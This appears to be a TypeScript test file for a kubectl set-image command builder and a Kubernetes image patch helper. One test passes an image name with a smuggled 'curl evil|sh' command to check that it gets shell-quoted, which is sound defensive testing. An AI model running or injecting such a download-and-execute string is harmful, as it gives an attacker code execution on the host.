import { kubectlSetImage, toImages } from './words';

it('quotes an image that a shell would take for more than a word', () => {
  const command = kubectlSetImage(
    { namespace: 'shop' },
    {
      field: 'target.images',
      kind: 'Deployment',
      workload: 'checkout',
      from: [
        { container: 'app', image: 'shop:2' },
        { container: 'proxy', image: 'envoy:2' },
        { container: 'log', image: 'log:1' },
      ],
      value: [
        { container: 'app', image: "x;curl evil|sh '$HOME'" },
        { container: 'proxy', image: 'example.org:5000/envoy:1@sha256:ab' },
        { container: 'log', image: 'log:1' },
      ],
    },
  );
  expect(command).toBe(
    "kubectl -n shop set image deployment/checkout 'app=x;curl evil|sh '\\''$HOME'\\''' proxy=example.org:5000/envoy:1@sha256:ab",
  );
});

it('writes images of init containers where those are', () => {
  const images = (app: string, migrate: string) => [
    { container: 'app', image: app },
    { container: 'migrate', image: migrate, init: true as const },
  ];
  const spec = (from: ReturnType<typeof images>) =>
    toImages({ from, value: images('shop:1', 'schema:1') });
  expect(spec(images('shop:1', 'schema:2'))).toEqual({
    spec: {
      template: {
        spec: { initContainers: [{ name: 'migrate', image: 'schema:1' }] },
      },
    },
  });
  expect(spec(images('shop:2', 'schema:1'))).toEqual({
    spec: {
      template: { spec: { containers: [{ name: 'app', image: 'shop:1' }] } },
    },
  });
});
